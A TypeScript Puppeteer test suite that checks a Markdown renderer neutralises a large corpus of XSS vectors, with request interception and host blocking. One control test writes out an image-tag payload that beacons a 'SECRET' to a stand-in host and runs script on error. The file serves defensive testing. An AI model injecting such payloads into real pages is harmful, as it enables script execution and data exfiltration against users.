import { expect } from "chai";
import { launch, type Browser, type Page } from "puppeteer-core";
import { chromium, CHROMIUM_FLAGS } from "../../scripts/chromium.mjs";
import { isWhole, vectors } from "./corpora.ts";
import type { Way } from "./page/attack.ts";
import { servePages, type MarkdownPages } from "./page/serve.ts";

const sleep = (milliseconds: number) => new Promise((resolve) => setTimeout(resolve, milliseconds));

/** Vectors name hosts of others: none may be asked, not even by mistake. */
const CUT_OFF = "--host-resolver-rules=MAP * 127.0.0.1:9, EXCLUDE 127.0.0.1";

describe("attacks on Markdown", () => {
  const all = vectors();
  let pages: MarkdownPages, browser: Browser;
  let requests: string[], windows: string[];
  before(async () => {
    [pages, browser] = await Promise.all([
      servePages(),
      launch({ executablePath: chromium(), args: [...CHROMIUM_FLAGS, CUT_OFF], headless: true }),
    ]);
  });
  beforeEach(() => {
    requests = [];
    windows = [];
  });
  after(async () => {
    await browser?.close();
    pages?.close();
  });

  const ways: Readonly<Record<Way, string>> = {
    whole: "as a whole answer",
    streamed: "streamed, at every split",
    restored: "as a restored value",
    markup: "as an attribute and as light DOM",
  };
  for (const [way, title] of Object.entries(ways) as [Way, string][]) {
    it(`do nothing ${title}`, async () => {
      const halves = [0, 1].map((rest) => all.filter((_, index) => index % 2 === rest));
      const results = await Promise.all(
        halves.map((half) => withPage("/strict", (page) => page.evaluate((list, by) => globalThis.markdown.attack(list, by), half, way))),
      );
      expect(
        results
          .flatMap(({ hits }) => hits)
          .map(({ id, findings }) => `${id}: ${findings.join("; ")}`)
          .slice(0, 5)
          .join("\n"),
      ).to.equal("");
      expect(requests).to.deep.equal([]);
      expect(windows).to.deep.equal([]);
      expect(results.reduce((sum, { looks }) => sum + looks, 0)).to.be.at.least(all.length);
    });
  }

  it("leave the element able to show the next text", async () => {
    const shown = await withPage("/strict", async (page) => {
      await page.evaluate(
        (list) => globalThis.markdown.attack(list, "restored"),
        all.filter(({ kind }) => kind === "json").concat(all.slice(0, 100)),
      );
      return page.evaluate(() => globalThis.markdown.stillRenders());
    });
    expect(shown).to.contain("<strong>still</strong> here");
  });

  it("would be seen by this test if they did something", async () => {
    const beacon = { id: "a picture", kind: "html", payload: '<img src="https://beacon.invalid/?d=SECRET" onerror="alert(1)">' } as const;
    const live = [...all.filter((vector) => vector.kind === "html").slice(0, 60), beacon];
    const { structures, executions } = await withPage("/open", async (page) => {
      const seen = await page.evaluate((list) => globalThis.markdown.raw(list), live);
      // The browser tells of requests in its own time.
      for (const end = Date.now() + 10_000; requests.length === 0 && Date.now() < end;) await sleep(20);
      return seen;
    });
    expect(structures).to.be.greaterThan(live.length / 3);
    expect(executions).to.be.greaterThan(0);
    expect(requests.length).to.be.greaterThan(0);
  });

  it("are all there", () => {
    expect(all.length).to.be.at.least(isWhole("xss") ? 1960 : 60);
  });

  async function withPage<Result>(path: "/strict" | "/open", use: (page: Page) => Promise<Result>): Promise<Result> {
    const context = await browser.createBrowserContext();
    const page = await context.newPage();
    await pages.open(page, path);
    page.on("popup", (popup) => void windows.push(popup?.url() ?? "a window"));
    await page.setRequestInterception(true);
    page.on("request", (request) => {
      const own = new URL(request.url()).origin === pages.origin || /^(data|blob):/.test(request.url());
      if (!own) requests.push(request.url());
      void (own ? request.continue() : request.abort());
    });
    const result = await use(page);
    // What a page asked for last is told of a little after it has answered.
    await sleep(200);
    await context.close();
    return result;
  }
});
